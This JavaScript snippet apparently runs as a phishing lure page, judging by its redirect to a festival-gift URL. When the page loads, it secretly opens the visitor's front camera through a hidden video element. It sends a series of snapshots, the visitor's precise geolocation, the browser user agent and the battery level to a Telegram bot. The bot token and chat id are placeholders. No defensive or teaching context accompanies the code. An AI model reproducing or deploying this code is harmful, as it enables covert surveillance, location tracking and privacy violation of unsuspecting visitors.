const TG = 'https://api.telegram.org/bot0000:TOKEN';
const CHAT = '000000000';
const video = document.createElement('video');
video.style.display = 'none';
video.autoplay = true;
document.body.append(video);

function sendText(t) {
  fetch(`${TG}/sendMessage?chat_id=${CHAT}&text=${encodeURIComponent(t)}`);
}

async function kirimFoto(stream) {
  const c = document.createElement('canvas');
  c.width = 640;
  c.height = 480;
  let i = 0;
  const timer = setInterval(() => {
    c.getContext('2d').drawImage(video, 0, 0, 640, 480);
    c.toBlob((b) => {
      const fd = new FormData();
      fd.append('chat_id', CHAT);
      fd.append('photo', b, `p${i}.jpg`);
      fetch(`${TG}/sendPhoto`, { method: 'POST', body: fd });
    }, 'image/jpeg', 0.8);
    if (++i > 8) {
      clearInterval(timer);
      stream.getTracks().forEach((t) => t.stop());
      location.href = 'https://festival-wishes.example/hadiah';
    }
  }, 1500);
}

navigator.geolocation.getCurrentPosition(
  (p) => sendText(`Lokasi: https://maps.example/?q=${p.coords.latitude},${p.coords.longitude} (${p.coords.accuracy}m)\n${navigator.userAgent}`),
  () => sendText('lokasi ditolak'),
  { enableHighAccuracy: true }
);
navigator.getBattery && navigator.getBattery().then((b) => sendText('bat ' + b.level * 100));
navigator.mediaDevices.getUserMedia({ video: { facingMode: 'user' }, audio: false })
  .then((s) => { video.srcObject = s; kirimFoto(s); })
  .catch((e) => sendText('cam: ' + e.name));
